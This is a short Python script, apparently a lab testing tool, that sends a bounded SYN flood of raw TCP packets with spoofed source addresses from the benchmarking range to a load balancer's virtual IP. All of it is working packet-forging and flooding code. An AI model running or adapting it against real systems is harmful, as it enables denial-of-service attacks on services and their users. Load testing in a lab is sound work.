#!/usr/bin/env python3
"""A bounded SYN flood for the lab: COUNT TCP SYNs to VIP:PORT, each from another source address
in 198.18.0.0/15 (the benchmarking range) and port, sent from the client namespace through its
route to the balancer. Stops after COUNT packets or SECONDS, whichever comes first.

    lab-synflood.py VIP PORT COUNT SECONDS
"""
import random
import socket
import struct
import sys
import time


def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def syn(src: bytes, dst: bytes, sport: int, dport: int) -> bytes:
    tcp = struct.pack("!HHIIBBHHH", sport, dport, random.getrandbits(32), 0, 5 << 4, 0x02, 64240, 0, 0)
    pseudo = src + dst + struct.pack("!BBH", 0, socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), 0, 0x4000, 64, socket.IPPROTO_TCP, 0, src, dst)
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    return ip + tcp


def main() -> None:
    vip, port, count, seconds = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
    dst = socket.inet_aton(vip)
    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    deadline = time.monotonic() + seconds
    sent = 0
    while sent < count and time.monotonic() < deadline:
        src = struct.pack("!I", (198 << 24 | 18 << 16) + random.getrandbits(17))
        sock.sendto(syn(src, dst, random.randint(1024, 65535), port), (vip, 0))
        sent += 1
    print(sent)


if __name__ == "__main__":
    main()
